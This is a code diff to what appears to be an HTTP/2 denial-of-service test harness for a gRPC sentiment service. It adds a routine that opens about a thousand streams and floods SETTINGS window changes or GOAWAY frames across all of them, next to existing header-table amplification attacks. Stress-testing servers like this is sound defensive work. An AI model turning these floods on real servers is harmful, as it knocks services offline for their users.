@@ -8,9 +8,10 @@ import sys
 import threading
 import time
 
-from lib import (CONTINUATION, DATA, HEADERS, NO_SETTINGS, PING, PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
+from lib import (CONTINUATION, DATA, GOAWAY, HEADERS, NO_SETTINGS, PING, PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
                  WINDOW_UPDATE, Innocent, Raw, Server, field, frame, headers, message, verdict)
 
+STREAM = "/arom.v1.SentimentService/StreamAnalyzeSentiment"
 UNARY = "/arom.v1.SentimentService/AnalyzeSentiment"
 BATCH = "/arom.v1.SentimentService/BatchAnalyzeSentiment"
 SECONDS = 3
@@ -42,6 +43,21 @@ def flood(make) -> callable:
             if raw.closed:
                 continue
             raw.read(0.001)
+
+    return attack
+
+
+def flood_all(*frames: bytes) -> callable:
+    """Opens as many streams as are allowed, and sends frames for which a server goes through all of them."""
+
+    def attack(server: Server, stopped: threading.Event) -> None:
+        while not stopped.is_set():
+            raw = Raw(server)
+            raw.send(b"".join(frame(HEADERS, 4, stream, headers(STREAM)) for stream in range(1, 2_000, 2)))
+            while not stopped.is_set() and not raw.closed:
+                raw.send(b"".join(frames) * 200, 1)
+                raw.read(0.001)
+                raw.frames.clear()
 
     return attack
 
@@ -102,6 +118,8 @@ ATTACKS = {
     # One entry of the table, named thousands of times: 1 byte sent is 4,000 bytes read.
     "references into the header table": flood(
         lambda stream: frame(HEADERS, 5, stream, OPEN + b"\x40" + field("x", "y" * 3_900)[1:] + b"\xbe" * 2_000)),
+    "windows of all streams": flood_all(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
+    "GOAWAY beside all streams": flood_all(frame(GOAWAY, 0, 0, struct.pack(">II", 0x7FFF_FFFF, 0))),
     "a window of nothing": hold(
         lambda stream: frame(HEADERS, 4, stream, OPEN) + frame(DATA, 1, stream, TEXT), 1_000, NO_WINDOW),
     "streams without a message": hold(lambda stream: frame(HEADERS, 4, stream, OPEN), 1_000),
